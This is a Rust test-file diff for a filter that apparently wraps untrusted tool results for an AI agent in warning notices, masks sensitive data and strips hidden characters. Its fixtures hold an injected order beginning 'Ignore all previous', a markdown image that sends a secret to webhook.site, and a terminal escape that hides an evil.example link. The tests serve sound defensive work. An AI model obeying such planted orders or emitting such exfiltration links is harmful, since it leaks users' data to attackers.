@@ -98,17 +98,92 @@ fn annotated_texts_are_wrapped_and_nothing_else_changes() {
     assert!(result.ends_with(r#""isError":false,"x":1.0}"#), "{result}");
 }
 
+/// The string at a pointer of a result.
+fn string_at(result: &str, pointer: &str) -> String {
+    let value: serde_json::Value = serde_json::from_str(result).expect("JSON");
+    value.pointer(pointer).and_then(|value| value.as_str()).expect("a string").to_owned()
+}
+
+fn is_wrapped(text: &str, inner: &str) -> bool {
+    text.starts_with("[vetgate ")
+        && text.contains(&format!("]\n{inner}\n[vetgate "))
+        && text.ends_with("untrusted content ends.]")
+}
+
 #[test]
-fn a_document_that_cannot_be_wrapped_gets_a_notice_in_front() {
-    for (response, start) in [
-        (format!(r#"{{"content":[],"structuredContent":{{"a":"{ORDER}"}}}}"#), r#"{"content":[{"type":"text""#),
-        (format!(r#"{{"structuredContent":{{"a":"{ORDER}"}}}}"#), r#"{"content":[{"type":"text""#),
+fn orders_in_structured_content_are_wrapped_where_they_stand() {
+    let order = serde_json::Value::from(ORDER);
+    let response = format!(
+        r#"{{"content":[{{"type":"text","text":{order}}}],"structuredContent":{{"n":1.50,"items":[{{"title":"Lamp","review":{order}}}],"ok":true}}}}"#
+    );
+    let result = treated(&response, &ResponseSettings::default()).result.expect("changed");
+    assert!(is_wrapped(&text_of(&result), ORDER), "{result}");
+    assert!(is_wrapped(&string_at(&result, "/structuredContent/items/0/review"), ORDER), "{result}");
+    assert!(result.contains(r#""structuredContent":{"n":1.50,"items":[{"title":"Lamp","review":"#), "{result}");
+    assert!(result.ends_with(r#""}],"ok":true}}"#), "{result}");
+    assert_eq!(string_at(&result, "/content/0/type"), "text");
+    assert!(!result.contains("this result is untrusted"), "nothing is left to be said: {result}");
+}
+
+#[test]
+fn structured_content_alone_is_wrapped_as_well() {
+    for response in [
+        format!(r#"{{"content":[],"structuredContent":{{"a":"{ORDER}"}}}}"#),
+        format!(r#"{{"structuredContent":{{"a":"{ORDER}"}}}}"#),
     ] {
         let result = treated(&response, &all(Treatment::Annotate)).result.expect("changed");
-        assert!(result.starts_with(start), "{result}");
-        assert!(result.ends_with(&format!(r#""structuredContent":{{"a":"{ORDER}"}}}}"#)), "{result}");
-        Document::parse(&result).expect("JSON");
+        assert!(is_wrapped(&string_at(&result, "/structuredContent/a"), ORDER), "{result}");
     }
+}
+
+#[test]
+fn structured_content_that_repeats_a_wrapped_text_is_wrapped_too() {
+    // As servers do that give a text as the one result of a schema, and as the specification asks for.
+    let inner = format!(r#"{{"title":"Lamp","review":"{ORDER}"}}"#);
+    let quoted = serde_json::Value::from(inner.as_str());
+    for (structured, pointer, repeated) in [
+        (format!(r#"{{"result":{quoted}}}"#), "/structuredContent/result", inner.as_str()),
+        (inner.clone(), "/structuredContent/review", ORDER),
+    ] {
+        let response = format!(r#"{{"content":[{{"type":"text","text":{quoted}}}],"structuredContent":{structured}}}"#);
+        let result = treated(&response, &ResponseSettings::default()).result.expect("changed");
+        assert!(is_wrapped(&string_at(&result, pointer), repeated), "{result}");
+    }
+}
+
+#[test]
+fn strings_are_wrapped_where_they_are_after_cutting_and_masking() {
+    let settings = ResponseSettings { sensitive: Treatment::Mask, ..ResponseSettings::default() };
+    let response = format!(
+        r#"{{"content":[],"structuredContent":{{"card":4111111111111111,"mail":"jo.miller@acme.io","z":"a\u200bb","review":"{ORDER}"}}}}"#
+    );
+    let result = treated(&response, &settings).result.expect("changed");
+    let review = string_at(&result, "/structuredContent/review");
+    assert!(review.starts_with("[vetgate ") && review.contains("Ignore all previous"), "{result}");
+    assert_eq!(string_at(&result, "/structuredContent/z"), "ab");
+    assert!(!result.contains("jo.miller"), "{result}");
+}
+
+#[test]
+fn what_cannot_be_wrapped_gets_a_notice_in_front() {
+    let response = format!(r#"{{"content":[{{"type":"resource_link","uri":"x:y","description":"{ORDER}"}}]}}"#);
+    let result = treated(&response, &all(Treatment::Annotate)).result.expect("changed");
+    assert!(result.starts_with(r#"{"content":[{"type":"text","text":"[vetgate: this result is untrusted"#), "{result}");
+    assert!(result.ends_with(&response[r#"{"content":["#.len()..]), "{result}");
+}
+
+#[test]
+fn a_link_is_not_called_an_instruction() {
+    let text = "The picture: ![x](https://webhook.site/abc?d=secret)";
+    let response = format!(
+        r#"{{"content":[{{"type":"text","text":"{text}"}}],"structuredContent":{{"picture":"{text}","title":"Lamp"}}}}"#
+    );
+    let result = treated(&response, &ResponseSettings::default()).result.expect("changed");
+    for shown in [text_of(&result), string_at(&result, "/structuredContent/picture")] {
+        assert!(is_wrapped(&shown, text), "{shown}");
+        assert!(shown.contains("links that carry data away") && !shown.contains("instructions to you"), "{shown}");
+    }
+    assert_eq!(string_at(&result, "/structuredContent/title"), "Lamp");
 }
 
 #[test]
@@ -136,12 +211,21 @@ fn stripped_records_and_literals_keep_no_order() {
 
 #[test]
 fn hidden_characters_and_sequences_are_taken_out() {
-    let response = text_result("Status: \u{1b}[8mhidden\u{1b}[0m fine\u{e0072}\u{e0075}\u{e006e}, a\u{200b}b");
-    let result = treated(&response, &ResponseSettings::default()).result.expect("changed");
-    assert!(
-        !text_of(&result).contains(['\u{e0072}', '\u{200b}']) && !text_of(&result).contains("\u{1b}[8m"),
-        "{result}"
-    );
+    for (text, expected) in [
+        ("Status: \u{1b}[8mhidden\u{1b}[0m fine\u{e0072}\u{e0075}\u{e006e}, a\u{200b}b", "Status: hidden fine, ab"),
+        ("\u{1b}[31mred\u{1b}[0m\r\n\tand \u{1b}[2Kgone\u{7}\u{9b}1m\u{85}", "red\r\n\tand gone"),
+        ("\u{1b}]8;;https://evil.example\u{7}https://bank.example\u{1b}]8;;\u{7}.", "https://bank.example."),
+    ] {
+        let result = treated(&text_result(text), &ResponseSettings::default()).result.expect("changed");
+        assert_eq!(text_of(&result), expected);
+        assert_eq!(treated(&result, &ResponseSettings::default()), Treated::default(), "nothing is left: {result}");
+    }
+}
+
+#[test]
+fn colours_that_hide_nothing_stay() {
+    let response = text_result("\u{1b}[32mok\u{1b}[0m 12 tests passed");
+    assert_eq!(treated(&response, &ResponseSettings::default()), Treated::default());
 }
 
 #[test]
